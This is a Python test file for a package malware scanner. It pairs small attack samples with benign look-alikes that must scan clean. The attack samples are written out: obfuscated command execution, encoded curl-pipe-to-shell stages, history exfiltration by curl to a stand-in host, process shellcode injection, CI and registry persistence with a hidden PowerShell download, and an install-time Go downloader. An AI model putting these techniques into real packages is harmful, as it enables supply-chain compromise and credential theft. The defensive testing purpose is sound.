"""The blind32 recall round's misses (benchmarks/malware/tune/b32-*), each as the smallest
package that shows the technique, asserted in package mode with the prefilter's twin
(the whole-file pass finds the rule, the prefiltered scan finds every DANGER it does), and
the honest code of the same shape that must stay clean. Each attack failed on main at
``7d18d3a3``; each near miss passes there and here."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._foreign_scripts import foreign_payload
from caplet._scan._interpreter_texts import listing, module_text
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_tree
from caplet._scan._values import literal_text
from tests._scan.prefilterkit import found_in_file, tree_both_ways

#: An inert second stage (a download piped to a shell), zlib'd and base64'd.
STAGE_ZB64 = (
    "eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUdBNKw72UcgoKSkottLXT07J0yvITtctLUhJ"
    "LEnVS61IzC3ISdXP1CvOUKhRKM5Q0uQCAAB3Ggk="
)
#: The stage's source as the text of a bytes literal (``\\x`` escapes).
STAGE_ESCAPED = (
    "\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x0a\\x6f\\x73\\x2e\\x73\\x79\\x73"
    "\\x74\\x65\\x6d\\x28\\x22\\x63\\x75\\x72\\x6c\\x20\\x2d\\x66\\x73\\x53\\x4c\\x20"
    "\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x64\\x6e\\x2e\\x70\\x6b\\x67\\x2d"
    "\\x75\\x70\\x64\\x61\\x74\\x65\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f\\x69"
    "\\x2e\\x73\\x68\\x20\\x7c\\x20\\x73\\x68\\x22\\x29\\x0a"
)
#: The stage's command, base64'd.
COMMAND_B64 = "Y3VybCAtZnNTTCBodHRwczovL2Nkbi5wa2ctdXBkYXRlLmV4YW1wbGUvaS5zaCB8IHNo"
#: The stage's source, base64'd.
STAGE_B64 = (
    "aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtZnNTTCBodHRwczovL2Nkbi5wa2ctdXBkYXRl"
    "LmV4YW1wbGUvaS5zaCB8IHNoIikK"
)


def attack(root: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str], rule: str) -> None:
    """``files`` written under ``root``; ``rule`` is found (the last file is written last)."""
    *rest, (last, text) = files.items()
    for name, body in rest:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(textwrap.dedent(body), encoding="utf-8")
    found_in_file(root, monkeypatch, last, textwrap.dedent(text), rule)


def clean(root: Path, monkeypatch: pytest.MonkeyPatch, files: dict[str, str]) -> None:
    """``files`` under ``root``: no DANGER, with the prefilter or without."""
    for name, body in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(textwrap.dedent(body), encoding="utf-8")
    assert tree_both_ways(root, monkeypatch) == ([], [])


# -- computed names ----------------------------------------------------------------------------


def test_names_sliced_from_the_texts_of_builtin_singletons_and_functions_are_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    singletons = """
    import importlib
    _s = str(Ellipsis) + str(type(None)) + str(NotImplemented)
    _m = importlib.import_module("".join(_s[i] for i in [4, 3, 4]))
    getattr(_m, "".join(_s[i] for i in [30, 11, 3, 18]))(["install", "colorsys-ext"])
    """
    attack(tmp_path / "a", monkeypatch, {"setup.py": singletons}, "CPL-THR-003")
    function = """
    import os as _o
    _t = repr(open)
    _n = "".join(_t[i] for i in [19, 20, 21, 22])
    getattr(_o, "p" + _n)("nohup ~/.cache/upd &")
    """
    attack(tmp_path / "b", monkeypatch, {"pkg/__init__.py": function}, "CPL-THR-003")


def test_a_builtins_text_in_a_message_beside_a_lookup_of_settings_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import logging
    log = logging.getLogger(__name__)
    def option(settings, key):
        log.debug("opener %s, sentinel %s", repr(open), str(Ellipsis))
        return getattr(settings, key)
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": text})


def test_a_process_function_picked_out_of_its_modules_listing_by_a_test_is_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import subprocess, sys
    run = next(getattr(subprocess, n) for n in dir(subprocess)
               if n.startswith("Po") and n.endswith("en"))
    run([sys.executable, "-m", "pip", "install", "requestz-toolbelt"])
    """
    attack(tmp_path, monkeypatch, {"setup.py": text}, "CPL-THR-003")


def test_a_modules_constants_collected_from_its_listing_are_no_pick(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os, socket
    FLAGS = {n: getattr(os, n) for n in dir(os) if n.startswith("O_")}
    FAMILIES = [getattr(socket, n) for n in dir(socket) if n.startswith("AF_")]
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": text})
    assert "Popen" in (listing(["subprocess"]) or [])
    assert listing(["json"]) is None


def test_builtins_walked_and_picked_by_a_test_on_the_names_are_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"""
    import base64, builtins, zlib
    a = [v for k, v in vars(builtins).items() if k[::-1] == "lave"][0]
    b = [v for k, v in vars(builtins).items() if k[::-1] == "elipmoc"][0]
    a(b(zlib.decompress(base64.b64decode("{STAGE_ZB64}")), "<d>", "exec"))
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-003")


def test_builtins_walked_for_names_written_out_or_harmless_ones_are_not_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import builtins
    show = [v for k, v in vars(builtins).items() if k.startswith("pri")][0]
    run = next(v for k, v in vars(builtins).items() if k == "exec")
    SAFE = [v for k, v in vars(builtins).items() if not k.startswith("_")]
    """
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text(textwrap.dedent(text), encoding="utf-8")
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    assert "CPL-THR-003" not in {f.rule_id for f in report.findings}


def test_a_name_spelled_from_calendars_tables_is_hidden(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import calendar, os
    P = [(1, 3), (0, 5), (1, 3), (1, 0), (1, 2), (0, 0)]
    getattr(os, "".join(calendar.day_name[d][i].lower() for d, i in P))(os.environ["CMD"])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-003")
    assert module_text("calendar.month_abbr") == [
        "",
        *["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"],
    ]


def test_calendars_names_in_a_report_are_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import calendar
    def header(first):
        return " ".join(calendar.day_abbr[(first + i) % 7] for i in range(7))
    def month(m):
        return getattr(calendar, "month_name")[m]
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": text})


# -- literal stages and decoders ---------------------------------------------------------------


def test_a_stage_kept_as_a_literals_source_and_unwrapped_by_literal_eval_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"""
    import ast
    _BLOB = r"b'{STAGE_ESCAPED}'"
    exec(ast.literal_eval(_BLOB))
    """
    attack(tmp_path, monkeypatch, {"setup.py": text}, "CPL-THR-016")


def test_literal_eval_of_settings_is_not(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = """
    import ast
    DEFAULTS = ast.literal_eval("{'retries': 3, 'hosts': ['a', 'b']}")
    NAME = ast.literal_eval("'worker'")
    print(DEFAULTS, NAME)
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": text})
    assert literal_text("b'\\x69'") == b"i"
    assert literal_text("['a']") is None  # containers and expressions are not evaluated
    assert literal_text("'a' + 'b'") is None


def test_a_mime_parts_decoded_payload_run_by_exec_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    message = "Content-Transfer-Encoding: base64\\n\\n" + STAGE_B64
    text = f"""
    import email
    _T = "{message}"
    exec(email.message_from_string(_T).get_payload(decode=True))
    """
    attack(tmp_path, monkeypatch, {"pkg/_tpl.py": text}, "CPL-THR-001")


def test_a_mail_attachment_decoded_and_saved_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import email
    def save(raw, path):
        msg = email.message_from_bytes(raw)
        for part in msg.walk():
            if part.get_filename():
                with open(path, "wb") as out:
                    out.write(part.get_payload(decode=True))
    """
    clean(tmp_path, monkeypatch, {"pkg/mail.py": text})


def test_exec_handed_to_importlibs_trampoline_runs_the_decoded_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"""
    import base64, zlib
    from importlib import _bootstrap
    _stage = zlib.decompress(base64.b64decode("{STAGE_ZB64}"))
    _bootstrap._call_with_frames_removed(exec, _stage, {{}})
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-001")


def test_a_callback_handed_to_a_trampoline_or_a_timer_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import sys
    from importlib import _bootstrap
    def refresh(root, label):
        label.config(text="ok")
        root.after(1000, refresh, root, label)
    _bootstrap._call_with_frames_removed(print, "loaded")
    sys.call_tracing(print, ("traced",))
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": text})


def test_a_decoded_command_started_by_pywin32s_shellexecute_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = f"""
    import base64, sys
    if sys.platform == "win32":
        import win32api
        _a = base64.b64decode("{COMMAND_B64}").decode()
        win32api.ShellExecute(0, "open", "cmd.exe", "/c " + _a, None, 0)
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-001")


def test_a_document_opened_by_shellexecute_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import win32api
    def show(path):
        win32api.ShellExecute(0, "open", path, None, ".", 1)
    """
    clean(tmp_path, monkeypatch, {"pkg/viewer.py": text})


# -- recon and credentials ---------------------------------------------------------------------


def test_host_details_given_to_an_xmlrpc_proxys_method_leave_the_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import getpass, platform, xmlrpc.client
    _srv = xmlrpc.client.ServerProxy("http://198.51.100.23:8000/RPC2")
    _srv.register(platform.node(), getpass.getuser())
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-017")


def test_an_xmlrpc_query_of_a_package_index_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import xmlrpc.client
    def releases(name):
        return xmlrpc.client.ServerProxy("https://pypi.org/pypi").package_releases(name)
    """
    clean(tmp_path, monkeypatch, {"pkg/index.py": text})


def test_shell_histories_copied_into_a_file_that_curl_uploads_are_credential_theft(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os, subprocess, tempfile
    def _flush():
        out = os.path.join(tempfile.gettempdir(), "hist.txt")
        with open(out, "w") as dst:
            for name in (".bash_history", ".zsh_history"):
                p = os.path.join(os.path.expanduser("~"), name)
                with open(p) as src:
                    dst.write(src.read())
        subprocess.run(["curl", "-s", "-F", "file=@" + out, "https://uploads.example/u"])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-007")


def test_a_build_log_written_and_uploaded_by_curl_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os, subprocess, tempfile
    def upload(lines, url):
        out = os.path.join(tempfile.gettempdir(), "build.log")
        with open(out, "w") as dst:
            for name in ("build", "test"):
                dst.write(name + ": " + lines[name])
        subprocess.run(["curl", "-s", "-F", "file=@" + out, url])
    """
    clean(tmp_path, monkeypatch, {"pkg/report.py": text})


# -- native code, persistence --------------------------------------------------------------------


def test_memory_allocated_executable_in_another_process_is_a_shellcode_loader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import ctypes
    def inject(pid, sc):
        k32 = ctypes.windll.kernel32
        h = k32.OpenProcess(0x1F0FFF, False, pid)
        addr = k32.VirtualAllocEx(h, None, len(sc), 0x3000, 0x40)
        k32.WriteProcessMemory(h, ctypes.c_void_p(addr), sc, len(sc), None)
        k32.CreateRemoteThread(h, None, 0, ctypes.c_void_p(addr), None, 0, None)
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-023")


def test_another_process_read_through_ctypes_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import ctypes
    def peek(pid, addr, size):
        k32 = ctypes.windll.kernel32
        h = k32.OpenProcess(0x0010, False, pid)
        buf = ctypes.create_string_buffer(size)
        k32.ReadProcessMemory(h, ctypes.c_void_p(addr), buf, size, None)
        return buf.raw
    """
    clean(tmp_path, monkeypatch, {"pkg/peek.py": text})


def test_a_later_ci_steps_shell_pointed_at_a_dropped_script_is_persistence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os
    _env = os.environ.get("GITHUB_ENV")
    if _env:
        _hook = os.path.join(os.environ.get("RUNNER_TEMP", "/tmp"), ".ci-cache.sh")
        with open(_env, "a") as f:
            f.write(f"BASH_ENV={_hook}\\n")
    """
    attack(tmp_path, monkeypatch, {"pkg/ci.py": text}, "CPL-THR-009")


def test_a_version_exported_to_later_ci_steps_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os
    def export(version):
        with open(os.environ["GITHUB_ENV"], "a") as f:
            f.write(f"PACKAGE_VERSION={version}\\n")
        with open(os.environ["GITHUB_OUTPUT"], "a") as f:
            f.write(f"version={version}\\n")
    """
    clean(tmp_path, monkeypatch, {"pkg/ci.py": text})


SETUP_STARTS = """
import os, subprocess
from setuptools import setup
here = os.path.dirname(os.path.abspath(__file__))
subprocess.run(%s, check=False)
setup(name="x")
"""


def test_a_go_program_run_at_install_that_downloads_and_runs_is_a_loader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    go = """
    package main
    import ("io"; "net/http"; "os"; "os/exec")
    func main() {
        resp, _ := http.Get("http://198.51.100.61/k/agent")
        f, _ := os.OpenFile("/tmp/.c", os.O_CREATE|os.O_WRONLY, 0755)
        io.Copy(f, resp.Body)
        exec.Command("/tmp/.c").Start()
    }
    """
    setup = SETUP_STARTS % '["go", "run", os.path.join(here, "tools", "gen.go")]'
    attack(tmp_path, monkeypatch, {"tools/gen.go": go, "setup.py": setup}, "CPL-THR-015")


def test_a_go_code_generator_run_at_install_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    go = """
    package main
    import ("os"; "os/exec")
    func main() {
        os.WriteFile("gen_pb2.py", []byte("# generated\\n"), 0644)
        exec.Command("gofmt", "-l", ".").Run()
    }
    """
    setup = SETUP_STARTS % '["go", "run", os.path.join(here, "tools", "gen.go")]'
    clean(tmp_path, monkeypatch, {"tools/gen.go": go, "setup.py": setup})


def test_a_registry_file_imported_at_install_with_an_autostart_value_is_persistence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reg = """
    Windows Registry Editor Version 5.00

    [HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
    "Svc"="powershell.exe -w hidden -c iex (iwr 'https://cdn.pkg-update.example/c.ps1')"
    """
    setup = SETUP_STARTS % '["reg", "import", os.path.join(here, "data", "defaults.reg")]'
    attack(tmp_path, monkeypatch, {"data/defaults.reg": reg, "setup.py": setup}, "CPL-THR-009")


def test_a_registry_file_of_an_applications_own_settings_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reg = """
    Windows Registry Editor Version 5.00

    [HKEY_CURRENT_USER\\Software\\ConsoleColor]
    "Theme"="dark"

    [HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]
    "OldSvc"=-
    """
    setup = SETUP_STARTS % '["reg", "import", os.path.join(here, "data", "defaults.reg")]'
    clean(tmp_path, monkeypatch, {"data/defaults.reg": reg, "setup.py": setup})
    assert foreign_payload("package main\\nfunc main() {}\\n", ".go") is None


def test_a_rows_code_of_a_database_the_package_ships_run_is_a_hidden_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os, sqlite3
    _con = sqlite3.connect(os.path.join(os.path.dirname(__file__), "data", "cache.db"))
    _row = _con.execute("select v from kv where k = ?", ("boot",)).fetchone()
    if _row:
        exec(_row[0])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-THR-029")


def test_a_packaged_database_read_for_data_or_a_scratch_database_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = """
    import os, sqlite3
    _con = sqlite3.connect(os.path.join(os.path.dirname(__file__), "data", "geo.db"))
    def country(ip):
        row = _con.execute("select c from ip where net = ?", (ip,)).fetchone()
        return row[0] if row else None
    def run_migration(sql_file):
        con = sqlite3.connect(":memory:")
        con.executescript(open(sql_file).read())
    """
    clean(tmp_path, monkeypatch, {"pkg/__init__.py": text})


# -- invisible characters ------------------------------------------------------------------------


def test_a_stage_hidden_in_variation_selectors_beside_exec_is_danger(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hidden = "".join("\ufe00" if b == "0" else "\ufe01" for b in "01101001" * 80)
    text = (
        f'BANNER = "banner {hidden}"\n'
        '_b = "".join("0" if c == "\\ufe00" else "1" for c in BANNER if c > "~")\n'
        "exec(bytes(int(_b[i:i + 8], 2) for i in range(0, len(_b), 8)).decode())\n"
    )
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": text}, "CPL-SCAN-002")


def test_a_long_run_of_marks_in_a_data_table_is_not_danger(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = 'ZALGO = "a' + "\u0301" * 40 + '"\nprint(len(ZALGO))\n'
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "table.py").write_text(text, encoding="utf-8")
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    assert not [f for f in report.findings if f.severity is Severity.DANGER]
